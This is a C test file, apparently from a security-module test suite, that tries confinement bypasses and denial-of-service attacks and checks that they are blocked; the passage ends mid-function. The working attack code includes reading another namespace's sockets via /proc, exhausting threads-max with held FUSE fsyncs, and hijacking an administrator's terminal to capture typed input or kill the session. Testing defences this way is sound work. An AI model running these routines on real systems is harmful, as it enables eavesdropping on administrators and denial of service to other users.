// SPDX-License-Identifier: GPL-2.0-only
/*
 * Attack run 31 (helper, branch a31, against 6bd6951): another policy's process learned about
 * or changed by routes the earlier runs did not list, and host budgets reached by tasks that
 * are made for a confined task but not by it. Every case asserts the SECURE outcome: a failing
 * check is a bypass ("BYPASS") or a denial of service to others ("DENIAL"). Each has an
 * unconfined control showing the route really works. Measured numbers are printed by each case
 * as "#" lines.
 *
 * Results in the 6.1 VM (2 vCPUs, Debian 6.1.0-57 cloud kernel, run 1: /work/atk31-run1-console.log;
 * 3120 from runs 2 and 3: /work/atk31-run2-console.log, /work/atk31-run3-console.log):
 *  3100 BYPASS (closed since: file_open of a procfs file of another network namespace, knobs.bpf.h;
 *       run 1 before the fix): /proc/VICTIM/net/unix, net/udp, task/VICTIM/net/unix of a victim under
 *       a31-victim in its own network namespace read by root and uid 1000 under a31 and
 *       a31-audit: the abstract name "@a31-secret-netns" and the UDP port 7A69 shown (12 of 12
 *       reads); /proc/self/net/unix of the attacker does not have them. Control: the same.
 *       Printed: mountinfo (9 lines), uid_map, limits, status (CapEff 000001ffffffffff, NSpid)
 *       read by both; ns/ EACCES for uid 1000; stat of fd/: size 0 (no count leaks on 6.1).
 *  3110 DENIAL (open, reported): threads-max = host tasks + 40; 250 IOCB_CMD_FSYNC on the FUSE file the
 *       confined service serves: host tasks 63 -> 103 of 103 (a31 root), 103 -> 143 of 143
 *       (a31-audit uid 1000), 143 -> 183 (a31 uid 1000), 183 -> 223 (a31-audit root): each
 *       round the kworkers took the host to threads-max, the host root's fork FAILED (EAGAIN),
 *       no event. Control: the same (223 -> 263, fork failed).
 *  3120 BYPASS (s, V, v closed since: file_ioctl on somebody else's terminal, meta.bpf.c, and
 *       CAP_SYS_TTY_CONFIG for vhangup with such a controlling terminal, lockdown.bpf.c; p,
 *       the foreground, open and reported; run 2 before the fix): with the terminal descriptor it inherited from the
 *       administrator's session (leader under no policy), under a31 and a31-audit: (p)
 *       setpgid + TIOCSPGRP made, the line the administrator typed next READ, root and uid
 *       1000; (s) setsid + TIOCSCTTY 1 stole the terminal, the line READ, root (uid 1000: EPERM
 *       from the kernel); (v) vhangup() and (V) TIOCVHANGUP: the session leader KILLED by
 *       SIGHUP, root (uid 1000: EPERM from the kernel). No event for these. (r, 2026-12-07,
 *       eighteenth session: found by reading the tty code, asserted open since) setsid()
 *       alone, then a read: the line READ, root and uid 1000, enforce and audit: job control
 *       (SIGTTIN, EIO) stops only a reader whose controlling terminal the tty is
 *       (__tty_check_change), and after setsid the task has none. Run 3: the same
 *       terminal opened anew by its name is refused to the confined root (EPERM, event
 *       file_open built-in terminal, "deny" under a31-audit too; uid 1000 EACCES from the
 *       kernel's mode 0620): lsmguard counts it another session's terminal, but the
 *       inherited descriptor does all of the above. Control: the same, the reopen made.
 *  3130 DENIAL (open, reported; the CAP_SYS_RESOURCE class policy.md names): a31 and a31-audit root
 *       raised RLIMIT_MSGQUEUE to infinity and made 12 queues (994,560 bytes, share 614,400);
 *       the host root's 8-byte queue EMFILE. Control: the same.
 *  3140 held: request_key as uid 1000 under a31 and a31-audit: first EPERM (the upcall's
 *       authorisation key refused at key_alloc), then negative keys until EDQUOT at 150 keys
 *       (the share of 200), 2,726 bytes; the host uid 1000's add_key made. Control: 201 keys,
 *       the host's add_key EDQUOT.
 *  3150 BYPASS (closed since: path_mkdir/path_rmdir in a cgroup filesystem, meta.bpf.c; run 1
 *       before the fix): the confined root (a31, a31-audit) made a31-victim/a31-made (mkdir)
 *       and removed a31-victim/payload (rmdir); with the victim's cgroup.max.descendants 2 the
 *       victim's own next mkdir EAGAIN. No event. Control: the same.
 *  3160 DENIAL (open, reported): user.max_uts_namespaces 200: a31 and a31-audit root kept 200 UTS
 *       namespaces, the host root's unshare(CLONE_NEWUTS) ENOSPC; IPC (max_ipc_namespaces 200):
 *       a31 kept 200, host ENOSPC (a31-audit's round found 183 still counted: IPC namespaces
 *       are freed by a worker later, kept 17, host ENOSPC). No event. Control: the same.
 *
 *  3100 another policy's network namespace through /proc/PID/net (and task/TID/net): a
 *       victim under a31-victim (root) in a network namespace of its own (systemd's
 *       PrivateNetwork= does the same) holds an abstract unix socket "@a31-secret-netns" and a
 *       UDP socket on port 31337; the attacker (root and uid 1000, under a31 enforce and
 *       a31-audit) reads /proc/VICTIM/net/unix, /proc/VICTIM/net/udp and
 *       /proc/VICTIM/task/VICTIM/net/unix. The kernel asks no ptrace check there
 *       (get_proc_task_net); lsmguard refuses only the fd directory of that process. Also
 *       printed, not asserted (the kernel's for anyone, as run 30 classed mountinfo): the
 *       victim's mountinfo, uid_map, limits, NSpid, CapEff, and the fd directory's st_size.
 *  3110 kernel.threads-max taken by kernel workers a confined task makes the kernel start:
 *       io_submit of IOCB_CMD_FSYNC on a file of a FUSE filesystem the confined service
 *       serves (its connection handed over, as for any FUSE daemon) and never answers:
 *       each fsync is queued on system_wq (aio_fsync: schedule_work) and blocks one kworker;
 *       the workqueue makes a new kworker for each (kthreadd's fork: no policy, lg_nproc_keep
 *       never asked). threads-max set to the host's tasks plus 40 (share three quarters).
 *       Secure: the host root's fork made. Root and uid 1000, enforce and audit.
 *  3120 the administrator's terminal shared with a confined task (an administrator's shell,
 *       session leader under no policy, runs a confined program: a confining wrapper, or a
 *       service started from a login): with the inherited descriptor of that terminal the
 *       confined task (p) makes its own process group the terminal's foreground (TIOCSPGRP)
 *       and reads the line the administrator types next; (s) steals the terminal for a
 *       session of its own (setsid, TIOCSCTTY with 1: CAP_SYS_ADMIN) and reads the line;
 *       (r) leaves the session (setsid, no capability) and reads the line: a tty that is not
 *       the reader's controlling terminal has no job control for it;
 *       (v) vhangup() and (V) TIOCVHANGUP (CAP_SYS_ADMIN): the session leader gets SIGHUP
 *       from the kernel (SEND_SIG_PRIV: no task_kill hook) and dies. The member also opens
 *       the same terminal anew by its name first (printed: lg_foreign_terminal's answer to a
 *       new open). Root and uid 1000, enforce and audit.
 *  3130 the root user's POSIX queue bytes (RLIMIT_MSGQUEUE, 819,200 for every root process):
 *       a confined root that keeps CAP_SYS_RESOURCE (a policy without [capabilities], the
 *       default) raises its own RLIMIT_MSGQUEUE to infinity (setrlimit: task_setrlimit of
 *       itself is not refused) and makes 12 queues of 82,880 bytes; lsmguard's share is three
 *       quarters of the caller's own limit (lg_mqueue_bytes_budget: infinity passes). Secure:
 *       at most 7 made, the host root's queue of 8 bytes made. Enforce and audit.
 *  3140 uid 1000's key quota through request_key: each request_key("user", new name) whose
 *       upcall lsmguard refuses leaves a negative key in the destination keyring, charged to
 *       the user (count and description) for key_negative_timeout and more; 200 of them.
 *       Secure: the user's keys stay within three quarters of kernel.keys.maxkeys, the host
 *       uid 1000's add_key made. Enforce and audit.
 *  3150 another policy's cgroup tree changed without a cgroup file: mkdir of a new cgroup in
 *       a31-victim's cgroup (it counts against the victim's cgroup.max.descendants, set to 2
 *       here as a delegating unit or container manager would), and rmdir of an empty cgroup
 *       the victim keeps for its payload; by a confined root (enforce and audit). The cgroup
 *       files are refused (files.bpf.c), the directories are only [files] paths. Secure: EPERM
 *       for both, the victim's own next mkdir made.
 *  3160 the root user's namespace counts (ucounts UCOUNT_UTS_NAMESPACES, UCOUNT_IPC_NAMESPACES:
 *       user.max_uts_namespaces, max_ipc_namespaces, per user, no LSM hook at their creation
 *       in 6.1): a confined root unshares UTS (IPC) namespaces, each kept by a descriptor of
 *       /proc/self/ns/uts (ipc), until ENOSPC; the host root's unshare (systemd's
 *       ProtectHostname=, PrivateIPC= for each unit it starts) then fails. The limits set to
 *       200 for the case (the default is max_threads / 2, about 3,900 here, as reachable with
 *       more descriptors). Secure: the host root's unshare made. Enforce and audit.
 */
#include <errno.h>
#include <fcntl.h>
#include <linux/aio_abi.h>
#include <linux/fuse.h>
#include <linux/keyctl.h>
#include <linux/mqueue.h>
#include <poll.h>
#include <sched.h>
#include <signal.h>
#include <stdbool.h>
#include <stddef.h>
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/ioctl.h>
#include <sys/mman.h>
#include <sys/mount.h>
#include <sys/resource.h>
#include <sys/socket.h>
#include <sys/stat.h>
#include <sys/syscall.h>
#include <sys/sysmacros.h>
#include <sys/un.h>
#include <sys/wait.h>
#include <netinet/in.h>
#include <termios.h>
#include <unistd.h>

#include "vmtest.h"
#include "vmutil.h"
#include "mountnames.h"

#define A31 "/lgt/a31"
#define A31_AUDIT "/lgt/a31-audit"
#define A31_VICTIM "/lgt/a31-victim"
#define A31_USER 1000

#define A31_RULES                                                                                  \
	"[files]\ndefault = allow\n[exec]\ndefault = allow\n[network]\ndefault = allow\n"
static const char a31_policy[] = "[policy]\nname = a31\ncgroup = " A31 "\nmode = enforce\n" A31_RULES;
static const char a31_audit_policy[] =
    "[policy]\nname = a31-audit\ncgroup = " A31_AUDIT "\nmode = audit\n" A31_RULES;
static const char a31_victim_policy[] =
    "[policy]\nname = a31-victim\ncgroup = " A31_VICTIM "\nmode = enforce\n" A31_RULES;

static void a31_setup(void)
{
	if (access(POLICY_DIR "/a31.ini", F_OK) == 0)
		return;
	write_file(POLICY_DIR "/a31.ini", a31_policy, 0644);
	write_file(POLICY_DIR "/a31-audit.ini", a31_audit_policy, 0644);
	write_file(POLICY_DIR "/a31-victim.ini", a31_victim_policy, 0644);
	VM_CHECK(daemon_reload_wait());
}

static const char *const a31_confined[] = {A31, A31_AUDIT};

/* ---- 3100: another policy's network namespace through /proc/PID/net ---- */

#define A31_NETNS_SECRET "a31-secret-netns"

struct a31_netvictim {
	volatile int ready, stop, err, pid;
};

static int a31_netns_victim(const void *p)
{
	struct a31_netvictim *v = (struct a31_netvictim *)p;
	struct sockaddr_un a = {.sun_family = AF_UNIX};
	struct sockaddr_in in = {.sin_family = AF_INET, .sin_port = htons(31337)};
	int u, d;

	v->pid = (int)getpid();
	if (unshare(CLONE_NEWNET)) {
		v->err = 1000 + errno;
		v->ready = 1;
		return v->err;
	}
	memcpy(a.sun_path + 1, A31_NETNS_SECRET, strlen(A31_NETNS_SECRET));
	u = socket(AF_UNIX, SOCK_STREAM, 0);
	d = socket(AF_INET, SOCK_DGRAM, 0);
	if (u < 0 || d < 0 ||
	    bind(u, (struct sockaddr *)&a,
		 (socklen_t)(offsetof(struct sockaddr_un, sun_path) + 1 + strlen(A31_NETNS_SECRET))) ||
	    listen(u, 1) || bind(d, (struct sockaddr *)&in, sizeof(in)))
		v->err = 2000 + errno;
	v->ready = 1;
	while (!v->stop)
		usleep(20 * 1000);
	return 0;
}

/* 0 when path holds needle; 1 when read but without it; 100 + errno when not read */
static int a31_file_has(const char *path, const char *needle)
{
	static char buf[65536];
	size_t len = 0;
	ssize_t n = 0;
	int fd = open(path, O_RDONLY | O_CLOEXEC);

	if (fd < 0)
		return 100 + errno;
	while (len < sizeof(buf) - 1 && (n = read(fd, buf + len, sizeof(buf) - 1 - len)) > 0)
		len += (size_t)n;
	n = n < 0 ? errno : 0;
	close(fd);
	if (n && !len)
		return 100 + (int)n;
	buf[len] = 0;
	return strstr(buf, needle) ? 0 : 1;
}

struct a31_netarg {
	pid_t victim;
	uid_t uid;
};

#define A31_NET_ROUTES 3
static const char *const a31_net_routes[A31_NET_ROUTES] = {"net/unix", "net/udp", "task/%d/net/unix"};
static const char *const a31_net_needles[A31_NET_ROUTES] = {A31_NETNS_SECRET, ":7A69", A31_NETNS_SECRET};

/* The routes' results packed: 3 bits of 0 (found), 1 (not in it), 2 (not read), one group a
 * route; 4096 when the caller's own namespace shows the victim's socket (not another's then). */
static int a31_net_do(const void *p)
{
	const struct a31_netarg *a = p;
	char path[128], rel[64];
	int packed = 0;

	if (become(a->uid))
		return 9000;
	for (int i = 0; i < A31_NET_ROUTES; i++) {
		int r;

		snprintf(rel, sizeof(rel), a31_net_routes[i], (int)a->victim);
		snprintf(path, sizeof(path), "/proc/%d/%s", (int)a->victim, rel);
		r = a31_file_has(path, a31_net_needles[i]);
		packed |= (r == 0 ? 0 : r == 1 ? 1 : 2) << (3 * i);
	}
	if (a31_file_has("/proc/self/net/unix", A31_NETNS_SECRET) == 0)
		packed |= 4096;
	return packed;
}

/* The exact answer: the victim's net/unix opened (its errno, 0 opened), and the caller's own
 * namespace's (100 + errno when that is refused: it must stay readable). */
static int a31_net_open_do(const void *p)
{
	const struct a31_netarg *a = p;
	char path[128];
	int fd, err;

	if (become(a->uid))
		return 9000;
	fd = open("/proc/self/net/unix", O_RDONLY | O_CLOEXEC);
	if (fd < 0)
		return 100 + errno;
	close(fd);
	snprintf(path, sizeof(path), "/proc/%d/net/tcp", (int)a->victim);
	fd = open(path, O_RDONLY | O_CLOEXEC);
	err = fd < 0 ? errno : 0;
	if (fd >= 0)
		close(fd);
	return err;
}

/* What the kernel gives anyone (printed only): a line or a count of each. */
static int a31_kernels_do(const void *p)
{
	const struct a31_netarg *a = p;
	static const char *const files[] = {"mountinfo", "uid_map", "limits", "status", "ns"};
	char path[128], buf[8192];
	struct stat st;

	if (become(a->uid))
		return 9000;
	for (size_t i = 0; i < sizeof(files) / sizeof(files[0]); i++) {
		int fd;
		ssize_t n;

		snprintf(path, sizeof(path), "/proc/%d/%s", (int)a->victim, files[i]);
		fd = open(path, O_RDONLY | O_CLOEXEC);
		if (fd < 0) {
			printf("#     uid %u: %s: %s\n", a->uid, files[i], strerror(errno));
			continue;
		}
		n = read(fd, buf, sizeof(buf) - 1);
		close(fd);
		if (n < 0) {
			printf("#     uid %u: %s: read %s\n", a->uid, files[i], strerror(errno));
			continue;
		}
		buf[n] = 0;
		if (!strcmp(files[i], "status")) {
			char *cap = strstr(buf, "CapEff:"), *nspid = strstr(buf, "NSpid:");

			if (cap)
				*strchrnul(cap, '\n') = 0;
			if (nspid)
				*strchrnul(nspid, '\n') = 0;
			printf("#     uid %u: status: %s; %s\n", a->uid, cap ? cap : "-",
			       nspid ? nspid : "-");
		} else {
			int lines = 0;

			for (char *c = buf; *c; c++)
				lines += *c == '\n';
			*strchrnul(buf, '\n') = 0;
			printf("#     uid %u: %s: %d lines, first \"%.70s\"\n", a->uid, files[i], lines,
			       buf);
		}
	}
	snprintf(path, sizeof(path), "/proc/%d/fd", (int)a->victim);
	if (stat(path, &st))
		printf("#     uid %u: stat fd: %s\n", a->uid, strerror(errno));
	else
		printf("#     uid %u: stat fd: size %lld, nlink %ld\n", a->uid, (long long)st.st_size,
		       (long)st.st_nlink);
	fflush(stdout);
	return 0;
}

static const char *a31_net_text(int packed, char *out, size_t size)
{
	static const char *const what[] = {"SHOWN", "not in it", "refused"};

	out[0] = 0;
	if (packed < 0 || packed >= 9000) {
		snprintf(out, size, "no result (%d)", packed);
		return out;
	}
	for (int i = 0; i < A31_NET_ROUTES; i++)
		snprintf(out + strlen(out), size - strlen(out), "%s%s: %s", i ? ", " : "",
			 a31_net_routes[i], what[(packed >> (3 * i)) & 7]);
	if (packed & 4096)
		snprintf(out + strlen(out), size - strlen(out), " (own namespace shows it too)");
	return out;
}

VM_TEST(a31_other_policys_network_namespace_through_proc_pid_net, 3100)
{
	struct a31_netvictim *v = mmap(NULL, 4096, PROT_READ | PROT_WRITE,
				       MAP_SHARED | MAP_ANONYMOUS, -1, 0);
	static const uid_t uids[] = {0, A31_USER};
	struct in_cgroup_thread th;
	char text[256], bypass[1024] = "";
	int nbypass = 0, controls = 0;
	pid_t victim = -1;

	a31_setup();
	VM_TIMEOUT(60);
	/* the victim under another policy; under none (a host daemon) if that policy's task could
	 * not make its namespace */
	for (int w = 0; w < 2 && victim < 0; w++) {
		memset((void *)v, 0, sizeof(*v));
		VM_CHECK(in_cgroup_start(&th, w ? NULL : A31_VICTIM, a31_netns_victim, (const void *)v));
		for (int i = 0; i < 500 && !v->ready; i++)
			usleep(10 * 1000);
		printf("#   victim %s: pid %d, namespace %s\n", w ? "under no policy" : "under a31-victim",
		       v->pid, v->ready && !v->err ? "made" : "NOT made");
		if (v->ready && !v->err) {
			victim = v->pid;
			break;
		}
		v->stop = 1;
		in_cgroup_join(&th);
	}
	VM_CHECK(victim > 0);
	for (size_t u = 0; u < 2; u++) {
		struct a31_netarg a = {victim, uids[u]};
		int control = in_cgroup(NULL, a31_net_do, &a);

		printf("#   uid %u unconfined: %s\n", a.uid, a31_net_text(control, text, sizeof(text)));
		if (control >= 0 && control < 9000 && (control & 7) == 0 && !(control & 4096))
			controls++;
		for (int c = 0; c < 2; c++) {
			int got = in_cgroup(a31_confined[c], a31_net_do, &a);

			int exact = in_cgroup(a31_confined[c], a31_net_open_do, &a);

			printf("#   uid %u %s: %s; its net/tcp opened: %s\n", a.uid, a31_confined[c],
			       a31_net_text(got, text, sizeof(text)),
			       exact ? strerror(exact % 100) : "opened");
			if (exact != EPERM) {
				nbypass++;
				snprintf(bypass + strlen(bypass), sizeof(bypass) - strlen(bypass),
					 " net/tcp opened: %d (uid %u, %s)", exact, a.uid,
					 a31_confined[c] + 5);
			}
			for (int i = 0; got >= 0 && got < 9000 && i < A31_NET_ROUTES; i++)
				if (((got >> (3 * i)) & 7) == 0 && !(got & 4096)) {
					nbypass++;
					snprintf(bypass + strlen(bypass), sizeof(bypass) - strlen(bypass),
						 " %s(uid %u, %s)", a31_net_routes[i], a.uid,
						 a31_confined[c] + 5);
				}
		}
		printf("#   what else uid %u under a31 reads of the victim (kernel's for anyone):\n",
		       a.uid);
		fflush(stdout);
		in_cgroup(A31, a31_kernels_do, &a);
	}
	v->stop = 1;
	in_cgroup_join(&th);
	munmap((void *)v, 4096);
	VM_CHECK(controls == 2); /* the route works: the control reads the other namespace */
	if (nbypass)
		VM_FAIL("BYPASS: another policy's network namespace (its sockets) read through "
			"/proc/PID/net by a confined task: %d:%s",
			nbypass, bypass);
}

/* ---- 3110: kernel.threads-max through kworkers of blocked AIO fsyncs ---- */

#define A31_FUSE "/tmp/a31fuse"
#define A31_FSYNCS 250

static void a31_fuse_reply(int fd, __u64 unique, int error, const void *body, size_t size)
{
	char out[sizeof(struct fuse_out_header) + 256];
	struct fuse_out_header h = {.len = (__u32)(sizeof(h) + (error ? 0 : size)),
				    .error = -error, .unique = unique};

	memcpy(out, &h, sizeof(h));
	if (!error && size)
		memcpy(out + sizeof(h), body, size);
	(void)!write(fd, out, h.len);
}

static void a31_fuse_attr(struct fuse_attr *a, __u64 node)
{
	memset(a, 0, sizeof(*a));
	a->ino = node;
	a->mode = node == FUSE_ROOT_ID ? S_IFDIR | 0755 : S_IFREG | 0666;
	a->nlink = node == FUSE_ROOT_ID ? 2 : 1;
	a->blksize = 4096;
}

/* A filesystem of one file, "f" (node 2): every FSYNC is held, never answered. */
static void a31_fuse_serve(int fd)
{
	static char buf[1 << 17];

	for (;;) {
		struct fuse_in_header *in = (struct fuse_in_header *)buf;
		ssize_t n = read(fd, buf, sizeof(buf));

		if (n < 0 && (errno == EINTR || errno == EAGAIN))
			continue;
		if (n < (ssize_t)sizeof(*in))
			_exit(3); /* the connection is gone */
		switch (in->opcode) {
		case FUSE_INIT: {
			const struct fuse_init_in *i = (const void *)(in + 1);
			struct fuse_init_out o = {.major = FUSE_KERNEL_VERSION, .minor = i->minor,
						  .max_readahead = i->max_readahead,
						  .max_write = 4096, .time_gran = 1};

			a31_fuse_reply(fd, in->unique, 0, &o, sizeof(o));
			break;
		}
		case FUSE_LOOKUP: {
			struct fuse_entry_out e = {.attr_valid = 60, .entry_valid = 60};

			if (in->nodeid != FUSE_ROOT_ID || strcmp((const char *)(in + 1), "f")) {
				a31_fuse_reply(fd, in->unique, ENOENT, NULL, 0);
				break;
			}
			e.nodeid = 2;
			a31_fuse_attr(&e.attr, 2);
			a31_fuse_reply(fd, in->unique, 0, &e, sizeof(e));
			break;
		}
		case FUSE_GETATTR: {
			struct fuse_attr_out o = {.attr_valid = 60};

			a31_fuse_attr(&o.attr, in->nodeid);
			a31_fuse_reply(fd, in->unique, 0, &o, sizeof(o));
			break;
		}
		case FUSE_OPEN:
		case FUSE_OPENDIR: {
			struct fuse_open_out o = {.fh = 1};

			a31_fuse_reply(fd, in->unique, 0, &o, sizeof(o));
			break;
		}
		case FUSE_FLUSH:
		case FUSE_RELEASE:
		case FUSE_RELEASEDIR:
			a31_fuse_reply(fd, in->unique, 0, NULL, 0);
			break;
		case FUSE_FSYNC:
		case FUSE_FORGET:
		case FUSE_BATCH_FORGET:
		case FUSE_INTERRUPT:
			break; /* FSYNC: held for ever */
		default:
			a31_fuse_reply(fd, in->unique, ENOSYS, NULL, 0);
		}
	}
}

struct a31_fuse {
	int fd;
	pid_t server;
	dev_t dev;
};

/* Mounted as an administrator would, served by a child moved into cgroup as uid. */
static void a31_fuse_start(struct a31_fuse *f, const char *cgroup, uid_t uid)
{
	char data[128], c = 0;
	int go[2];
	struct stat st;

	if (access("/dev/fuse", F_OK) != 0)
		(void)!system("insmod /lib/modules/fuse.ko");
	for (int i = 0; i < 50 && access("/dev/fuse", F_OK) != 0; i++)
		usleep(100 * 1000);
	VM_CHECK(mkdir(A31_FUSE, 0755) == 0 || errno == EEXIST);
	f->fd = open("/dev/fuse", O_RDWR | O_CLOEXEC);
	VM_CHECK(f->fd >= 0);
	snprintf(data, sizeof(data), "fd=%d,rootmode=40000,user_id=0,group_id=0,allow_other", f->fd);
	VM_CHECK(mount("a31fuse", A31_FUSE, "fuse", 0, data) == 0);
	VM_CHECK(pipe2(go, O_CLOEXEC) == 0);
	f->server = fork();
	VM_CHECK(f->server >= 0);
	if (f->server == 0) {
		close(go[1]);
		if (read(go[0], &c, 1) != 1 || become(uid))
			_exit(4);
		a31_fuse_serve(f->fd);
	}
	close(go[0]);
	VM_CHECK(!cgroup || move_into_cgroup(cgroup, f->server));
	VM_CHECK(write(go[1], &c, 1) == 1);
	close(go[1]);
	VM_CHECK(stat(A31_FUSE, &st) == 0);
	f->dev = st.st_dev;
}

/* The connection aborted (fusectl), the server killed, unmounted: every held fsync ends. */
static void a31_fuse_stop(struct a31_fuse *f)
{
	char path[128];

	if (access("/sys/fs/fuse/connections", F_OK) == 0 && !mn_mounted_at("/sys/fs/fuse/connections"))
		(void)!mount("fusectl", "/sys/fs/fuse/connections", "fusectl", 0, NULL);
	snprintf(path, sizeof(path), "/sys/fs/fuse/connections/%u/abort", (unsigned)minor(f->dev));
	if (access(path, F_OK) == 0)
		write_into(path, "1");
	kill(f->server, SIGKILL);
	waitpid(f->server, NULL, 0);
	close(f->fd);
	umount2(A31_FUSE, MNT_DETACH);
}

struct a31_fsyncer {
	int fuse_fd, cpu;
	uid_t uid;
	volatile int ready, go, submitted, release, err;
};

static long a31_host_tasks(void)
{
	char line[128] = "";
	long running = 0, total = 0;
	FILE *f = fopen("/proc/loadavg", "r");

	if (f) {
		if (fgets(line, sizeof(line), f))
			sscanf(line, "%*s %*s %*s %ld/%ld", &running, &total);
		fclose(f);
	}
	return total;
}

static int a31_fsync_do(const void *p)
{
	struct a31_fsyncer *h = (struct a31_fsyncer *)p;
	static struct iocb cbs[A31_FSYNCS];
	struct iocb *list[A31_FSYNCS];
	aio_context_t ctx = 0;
	cpu_set_t set;
	long n;
	int fd;

	close(h->fuse_fd); /* a held /dev/fuse would keep the connection past the abort */
	CPU_ZERO(&set);
	CPU_SET(h->cpu, &set);
	sched_setaffinity(0, sizeof(set), &set); /* schedule_work: this CPU's pool */
	if (become(h->uid))
		return h->err = 9000;
	fd = open(A31_FUSE "/f", O_RDONLY | O_CLOEXEC);
	if (fd < 0)
		return h->err = 1000 + errno;
	if (syscall(SYS_io_setup, A31_FSYNCS, &ctx))
		return h->err = 2000 + errno;
	for (int i = 0; i < A31_FSYNCS; i++) {
		memset(&cbs[i], 0, sizeof(cbs[i]));
		cbs[i].aio_lio_opcode = IOCB_CMD_FSYNC;
		cbs[i].aio_fildes = (__u32)fd;
		list[i] = &cbs[i];
	}
	h->ready = 1;
	while (!h->go)
		usleep(1000);
	n = syscall(SYS_io_submit, ctx, A31_FSYNCS, list);
	h->submitted = n < 0 ? -errno : (int)n;
	while (!h->release)
		usleep(10 * 1000);
	return 0; /* the exit waits for the fsyncs, ended by the abort */
}

static int a31_fork_probe(const void *arg)
{
	(void)arg;
	return 0; /* in_cgroup's own fork is the probe */
}

/* One round: the limit set to the host's tasks now plus 40; the held fsyncs; the host root's
 * fork. Returns the probe's result (0: made); *grown the tasks the round added. */
static int a31_fsync_round(const char *cgroup, uid_t uid, int cpu, long *grown, int *submitted,
			   long *limit_out)
{
	struct a31_fsyncer *h = mmap(NULL, sizeof(*h), PROT_READ | PROT_WRITE,
				     MAP_SHARED | MAP_ANONYMOUS, -1, 0);
	long before, now, old = read_number("/proc/sys/kernel/threads-max"), limit;
	struct in_cgroup_thread th;
	struct a31_fuse f;
	int probe;

	memset((void *)h, 0, sizeof(*h));
	a31_fuse_start(&f, cgroup, uid);
	h->fuse_fd = f.fd;
	h->cpu = cpu;
	h->uid = uid;
	VM_CHECK(in_cgroup_start(&th, cgroup, a31_fsync_do, (void *)h));
	for (int i = 0; i < 5000 && !h->ready && !h->err; i++)
		usleep(1000);
	usleep(200 * 1000);
	before = a31_host_tasks();
	limit = before + 40;
	write_number("/proc/sys/kernel/threads-max", limit);
	h->go = 1;
	for (int i = 0; i < 3000 && !h->submitted && !h->err; i++)
		usleep(1000);
	/* until the tasks stop growing for 2 s (15 s at most) */
	for (int i = 0, stable = 0, last = -1; i < 150 && stable < 20; i++) {
		now = a31_host_tasks();
		stable = now == last ? stable + 1 : 0;
		last = (int)now;
		usleep(100 * 1000);
	}
	now = a31_host_tasks();
	probe = in_cgroup(NULL, a31_fork_probe, NULL);
	write_number("/proc/sys/kernel/threads-max", old);
	printf("#   %s uid %u cpu %d: %d fsyncs submitted (err %d); host tasks %ld -> %ld of "
	       "threads-max %ld (share %ld); the host root's fork: %s\n",
	       cgroup ? cgroup : "unconfined", uid, cpu, h->submitted, h->err, before, now, limit,
	       limit - limit / 4, probe ? "FAILED" : "made");
	fflush(stdout);
	a31_fuse_stop(&f);
	h->release = 1;
	in_cgroup_join(&th);
	*grown = now - before;
	*submitted = h->submitted;
	*limit_out = limit;
	munmap((void *)h, sizeof(*h));
	return probe;
}

VM_TEST(a31_kworkers_of_held_aio_fsyncs_take_the_hosts_tasks, 3110)
{
	static const struct {
		const char *cgroup;
		uid_t uid;
	} rounds[] = {{A31, 0}, {A31_AUDIT, A31_USER}, {A31, A31_USER}, {A31_AUDIT, 0}, {NULL, 0}};
	char denial[512] = "";
	int ndenial = 0, control = 0;

	a31_setup();
	VM_TIMEOUT(300);
	for (size_t r = 0; r < sizeof(rounds) / sizeof(rounds[0]); r++) {
		long grown, limit;
		int submitted;
		int probe = a31_fsync_round(rounds[r].cgroup, rounds[r].uid, (int)(r % 2), &grown,
					    &submitted, &limit);

		if (!rounds[r].cgroup) {
			control = probe;
		} else if (probe) {
			ndenial++;
			snprintf(denial + strlen(denial), sizeof(denial) - strlen(denial),
				 " %s/uid %u (+%ld tasks, %d fsyncs)", rounds[r].cgroup + 5,
				 rounds[r].uid, grown, submitted);
		}
		usleep(500 * 1000);
	}
	VM_CHECK(control != 0); /* unconfined: the kworkers take the rest, the host's fork fails */
	/* open (docs/security.md, attack run 31): reported, not asserted */
	if (ndenial)
		printf("#   KNOWN OPEN: kworkers of a confined task's held AIO fsyncs took "
		       "kernel.threads-max past the share; the host root could not fork: %d:%s\n",
		       ndenial, denial);
}

/* ---- 3120: the administrator's terminal shared with a confined task ---- */

#define A31_TYPED "a31-typed-by-the-administrator"

struct a31_ttyarg {
	/* p: TIOCSPGRP, s: setsid + TIOCSCTTY 1, r: setsid alone (no controlling terminal: job
	 * control stops only a member of the terminal's own session), v: vhangup, V: TIOCVHANGUP */
	char kind;
	uid_t uid;
	char slave[64]; /* set by a31_tty_try: the terminal's name, opened anew first (o) */
};

/* In the member (the confined task): the attempt on the terminal s; writes its errno (0 made)
 * on rep, then, for p and s, 1 when it read the typed line (0 not). */
static void a31_member(const struct a31_ttyarg *a, int s, int rep)
{
	int err = 0, got = 0;
	struct pollfd pf = {.fd = s, .events = POLLIN};
	char buf[128];
	pid_t me = getpid();

	if (become(a->uid))
		err = 9000;
	{
		/* the same terminal opened anew by its name: lsmguard's lg_foreign_terminal */
		int again = err ? -1 : open(a->slave, O_RDWR | O_NOCTTY | O_CLOEXEC);
		int oerr = err ? -3 : again < 0 ? errno : 0;

		if (again >= 0)
			close(again);
		(void)!write(rep, &oerr, sizeof(oerr));
	}
	if (err) {
		/* become failed: reported as err */
	} else if (a->kind == 'p') {
		signal(SIGTTOU, SIG_IGN);
		signal(SIGTTIN, SIG_IGN);
		if (setpgid(0, 0) || tcsetpgrp(s, me))
			err = errno;
	} else if (a->kind == 's') {
		if (setsid() < 0 || ioctl(s, TIOCSCTTY, 1))
			err = errno;
	} else if (a->kind == 'r') {
		if (setsid() < 0)
			err = errno;
	} else if (a->kind == 'v') {
		signal(SIGHUP, SIG_IGN);
		if (vhangup())
			err = errno;
	} else if (a->kind == 'V') {
		signal(SIGHUP, SIG_IGN);
		if (ioctl(s, TIOCVHANGUP))
			err = errno;
	}
	(void)!write(rep, &err, sizeof(err));
	if ((a->kind == 'p' || a->kind == 's' || a->kind == 'r') && !err) {
		if (poll(&pf, 1, 3000) == 1) {
			ssize_t n = read(s, buf, sizeof(buf) - 1);

			if (n > 0) {
				buf[n] = 0;
				got = strstr(buf, A31_TYPED) != NULL;
			}
		}
		(void)!write(rep, &got, sizeof(got));
	}
	_exit(0);
}

/* One attempt: results in *err (the member's errno), *read_line, *leader_hup. */
static void a31_tty_try(const char *cgroup, struct a31_ttyarg *a, int *err, int *read_line,
			int *leader_hup, int *reopen)
{
	int master, rep[2], go[2], status;
	pid_t leader, member = -1;
	char c = 'g', slave[64];

